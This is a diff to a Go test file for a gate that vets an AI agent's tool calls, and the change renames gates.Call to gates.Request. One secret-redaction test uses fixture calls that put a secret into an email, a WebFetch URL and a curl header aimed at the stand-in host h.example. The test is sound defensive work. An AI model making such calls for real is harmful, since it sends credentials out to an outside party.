@@ -101,7 +101,7 @@ func TestReplay(t *testing.T) {
 	tape := cassette(t)
 	g := gate(t, tape)
 	for _, tt := range asked {
-		c := gates.NewContext(gates.Call{Tool: "send_email", Args: []byte(`{"recipients":["a@x.org"],"body":"` + tt.body + `"}`)}, gates.State{})
+		c := gates.NewContext(gates.Request{Tool: "send_email", Args: []byte(`{"recipients":["a@x.org"],"body":"` + tt.body + `"}`)}, gates.State{})
 		v := g.Judge(context.Background(), &c)
 		if v.OK != tt.ok || !strings.Contains(v.Why, tt.why) || !v.Asked || v.Model == "" || v.Template == "" || v.Excerpt == "" {
 			t.Errorf("%s: %+v", tt.body, v)
@@ -117,7 +117,7 @@ func TestReplay(t *testing.T) {
 }
 
 func TestNotRecordedBlocks(t *testing.T) {
-	c := gates.NewContext(gates.Call{Tool: "send_email", Args: []byte(`{"body":"never asked before"}`)}, gates.State{})
+	c := gates.NewContext(gates.Request{Tool: "send_email", Args: []byte(`{"body":"never asked before"}`)}, gates.State{})
 	v := gate(t, &Cassette{}).Judge(context.Background(), &c)
 	if v.OK || !strings.Contains(v.Why, ErrNotRecorded.Error()) {
 		t.Errorf("%+v", v)
@@ -129,7 +129,7 @@ func TestSecretsNeverReachTheServer(t *testing.T) {
 	tape := &Cassette{Server: roundTrip(func(r *http.Request) (*http.Response, error) {
 		return response(r, &Exchange{Status: 200, Answer: `{"choices":[{"message":{"content":"SAFE"}}]}`}), nil
 	})}
-	for _, call := range []gates.Call{
+	for _, call := range []gates.Request{
 		{Tool: "send_email", Args: []byte(`{"recipients":["a@x.org"],"body":"token ` + secret + `"}`)},
 		{Tool: "WebFetch", Args: []byte(`{"url":"https://h.example/?t=` + secret + `"}`)},
 		{Tool: "Bash", Args: []byte(`{"command":"curl -H 'X: ` + secret + `' https://h.example"}`)},
